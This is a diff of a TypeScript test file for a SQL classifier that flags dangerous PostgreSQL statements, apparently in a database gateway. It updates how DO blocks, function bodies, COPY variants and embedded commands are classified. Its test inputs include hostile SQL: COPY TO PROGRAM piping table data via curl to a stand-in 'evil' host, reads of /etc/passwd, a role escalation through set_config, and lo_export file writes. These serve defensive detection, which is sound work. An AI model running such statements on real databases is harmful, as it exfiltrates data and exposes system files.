@@ -6,6 +6,7 @@ import {
   type ClassifiedStatement,
   type StatementKind,
 } from '../../../../src/server/sql/index.js';
+import { parserSettled } from '../../../../src/server/sql/parser.js';
 
 before(() => initSqlParser());
 
@@ -302,35 +303,49 @@ describe('classifySql: EXPLAIN', () => {
   ]);
 });
 
-describe('classifySql: DO and function bodies are opaque', () => {
+describe('classifySql: DO blocks and function bodies are analysed', () => {
   runCases([
     {
       sql: "do $$ begin execute 'drop table t'; end $$",
-      kinds: ['do'],
-      tables: [],
+      kinds: ['do', 'drop'],
+      tables: ['t'],
       writes: true,
-      check: (s) => assert.equal(s.opaque, true),
+      check: (s) => assert.deepEqual(s.unknown, []),
     },
     {
       sql: "do language plpgsql 'begin null; end'",
       kinds: ['do'],
-      check: (s) => assert.equal(s.opaque, true),
+      check: (s) => assert.equal(s.opaque, false),
     },
     {
       sql: 'create function f() returns int language plpgsql as $$ begin delete from t; return 1; end $$',
-      kinds: ['ddl'],
-      check: (s) => assert.equal(s.opaque, true),
+      kinds: ['ddl', 'delete'],
+      tables: ['t'],
     },
     {
       sql: "create or replace procedure p() language sql as 'delete from t'",
-      kinds: ['ddl'],
-      check: (s) => assert.equal(s.opaque, true),
+      kinds: ['ddl', 'delete'],
+      tables: ['t'],
     },
     {
       sql: 'create function g(a int default pg_cancel_backend(1)) returns int language sql return a',
       kinds: ['ddl'],
       dangerous: ['pg_cancel_backend'],
       check: (s) => assert.equal(s.opaque, false),
+    },
+    {
+      sql: "create function h() returns int language plpython3u as 'return 1'",
+      kinds: ['ddl', 'dynamic'],
+      check: (s) => {
+        assert.equal(s.opaque, true);
+        assert.deepEqual(s.unknown, [
+          {
+            reason: 'language',
+            message:
+              'runs code in language plpython3u (a function body), which the gateway cannot analyse',
+          },
+        ]);
+      },
     },
     { sql: 'select 1', kinds: ['select'], check: (s) => assert.equal(s.opaque, false) },
   ]);
@@ -340,7 +355,7 @@ describe('classifySql: COPY', () => {
   runCases([
     {
       sql: 'copy t to stdout',
-      kinds: ['copy', 'select'],
+      kinds: ['copy', 'copy_to_stdout', 'select'],
       tables: ['t'],
       writes: false,
       check: (s) =>
@@ -353,7 +368,7 @@ describe('classifySql: COPY', () => {
     },
     {
       sql: 'copy t (a, b) from stdin with (format csv)',
-      kinds: ['copy', 'insert'],
+      kinds: ['copy', 'copy_from_stdin', 'insert'],
       tables: ['t'],
       writes: true,
       check: (s) =>
@@ -361,19 +376,19 @@ describe('classifySql: COPY', () => {
     },
     {
       sql: 'copy (select * from t join u using (id)) to stdout',
-      kinds: ['copy', 'select'],
+      kinds: ['copy', 'copy_to_stdout', 'select'],
       tables: ['t', 'u'],
       writes: false,
     },
     {
       sql: 'copy (delete from t returning *) to stdout',
-      kinds: ['copy', 'delete'],
+      kinds: ['copy', 'copy_to_stdout', 'delete'],
       tables: ['t'],
       writes: true,
     },
     {
       sql: "copy t to program 'curl -d @- http://evil'",
-      kinds: ['copy', 'select'],
+      kinds: ['copy', 'copy_to_program', 'select'],
       dangerous: ['copy program'],
       writes: true,
       check: (s) =>
@@ -381,19 +396,19 @@ describe('classifySql: COPY', () => {
     },
     {
       sql: "copy t from program 'cat /etc/passwd'",
-      kinds: ['copy', 'insert'],
+      kinds: ['copy', 'copy_from_program', 'insert'],
       dangerous: ['copy program'],
       check: (s) => assert.equal(s.copy?.direction, 'in'),
     },
     {
       sql: "copy t from '/etc/passwd'",
-      kinds: ['copy', 'insert'],
+      kinds: ['copy', 'copy_from_file', 'insert'],
       dangerous: ['copy file'],
       check: (s) => assert.deepEqual(s.copy, { direction: 'in', program: false, serverFile: true }),
     },
     {
       sql: "copy (select 1) to '/tmp/x'",
-      kinds: ['copy', 'select'],
+      kinds: ['copy', 'copy_to_file', 'select'],
       dangerous: ['copy file'],
       writes: true,
     },
@@ -438,7 +453,7 @@ describe('classifySql: functions and dangerous functions in every position', () 
     },
     {
       sql: "select a from t group by a having bool_or(set_config('role', 'admin', false) is null)",
-      kinds: ['select'],
+      kinds: ['select', 'set'],
       functions: ['bool_or', 'set_config'],
       dangerous: ['set_config'],
     },
@@ -449,7 +464,7 @@ describe('classifySql: functions and dangerous functions in every position', () 
     },
     {
       sql: "update t set a = 1 returning lo_export(a, '/tmp/x')",
-      kinds: ['update'],
+      kinds: ['update', 'select'],
       dangerous: ['lo_export'],
     },
     {
@@ -472,7 +487,13 @@ describe('classifySql: functions and dangerous functions in every position', () 
       kinds: ['select'],
       dangerous: ['dblink'],
     },
-    { sql: "select dblink_exec('drop table t')", kinds: ['select'], dangerous: ['dblink_exec'] },
+    {
+      // A constant command is classified: dblink may reach this very server.
+      sql: "select dblink_exec('drop table t')",
+      kinds: ['select', 'drop'],
+      tables: ['t'],
+      dangerous: ['dblink_exec'],
+    },
     {
       sql: 'select pg_switch_wal(), pg_promote(), pg_rotate_logfile()',
       kinds: ['select'],
@@ -480,7 +501,8 @@ describe('classifySql: functions and dangerous functions in every position', () 
     },
     {
       sql: "select query_to_xml('delete from t', true, false, '')",
-      kinds: ['select'],
+      kinds: ['select', 'delete'],
+      tables: ['t'],
       dangerous: ['query_to_xml'],
     },
     {
@@ -590,6 +612,7 @@ describe('classifySql: query strings', () => {
     const result = classifySql('select * from t where');
     assert.deepEqual(result, {
       ok: false,
+      reason: 'syntax',
       error: { message: 'syntax error at end of input', position: 22 },
       text: 'select * from t where',
     });
@@ -614,21 +637,24 @@ describe('classifySql: query strings', () => {
     const result = classifySql('select 1\0; drop table t');
     assert.deepEqual(result, {
       ok: false,
+      reason: 'syntax',
       error: { message: 'query contains a NUL byte', position: 9 },
       text: 'select 1\0; drop table t',
     });
   });
 
-  it('refuses a tree too deep to walk rather than guessing', () => {
+  it('refuses a tree too deep to walk rather than guessing', async () => {
     const sum = (n: number): string => `select ${Array.from({ length: n }, () => '1').join(' + ')}`;
-    const shallow = classifySql(sum(1000));
+    const shallow = classifySql(sum(900));
     assert.ok(shallow.ok);
     assert.deepEqual(shallow.statements[0]!.kinds, ['select']);
-    // 5,000 nested operators exhaust the walker's recursion, 30,000 the parser's JSON decoding.
+    // 5,000 nested operators pass the depth limit, 30,000 exhaust the parser's own stack.
     for (const n of [5_000, 30_000]) {
       const deep = classifySql(sum(n));
-      assert.equal(deep.ok, false, `${n} terms`);
+      assert.ok(!deep.ok, `${n} terms`);
+      assert.equal(deep.error.code, 'HOOP_SQL_TOO_DEEP');
     }
+    await parserSettled();
   });
 });
 
